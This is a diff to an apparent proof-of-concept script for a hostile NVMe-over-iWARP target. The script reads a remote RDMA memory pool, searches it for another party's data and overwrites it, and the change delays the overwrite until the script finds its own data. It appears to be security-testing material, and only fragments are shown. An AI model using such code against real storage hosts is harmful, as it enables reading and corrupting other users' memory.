@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: GPL-2.0-only OR Linux-OpenIB
 # A hostile NVMe target over software iWARP: nvme_evil.py LOOK-FOR. It prints its port, serves a disk of 1 MiB, and after the
-# first read it reads and overwrites all of the pool whose key it was given. It prints what it finds there: "own" for what it
-# has served itself, "other" for what it looks for.
+# first read it reads all of the pool whose key it was given, and overwrites it once it has found its own data. It prints what it
+# finds there: "own" for what it has served itself, "other" for what it looks for.
 import socket, struct, sys, threading, time
 
 OWN, OTHER, ALIEN = b"A" * 64, sys.argv[1].encode(), b"\xee" * 64
@@ -10,7 +10,7 @@ BUFFERS, EACH = 64, 131072
 class Peer:
     def __init__(self, s):
         self.s, self.sent, self.asked, self.capsule, self.pool, self.seen = s, 0, 0, b"", None, {}
-        self.lock = threading.Lock()
+        self.lock, self.own_found = threading.Lock(), threading.Event()
 
     def get(self, n):
         data = b""
@@ -95,6 +95,7 @@ class Peer:
             self.ask(*self.where(buffer), EACH, buffer)
 
     def alter(self):
+        self.own_found.wait()
         try:
             for _ in range(100):
                 for buffer in range(BUFFERS):
@@ -110,6 +111,8 @@ class Peer:
         for name, what in ("own", OWN), ("other", OTHER):
             if what in got:
                 print(name, flush=True)
+        if OWN in got:
+            self.own_found.set()
         next = (sink + 8) % BUFFERS
         self.ask(*self.where(next), EACH, next)
 
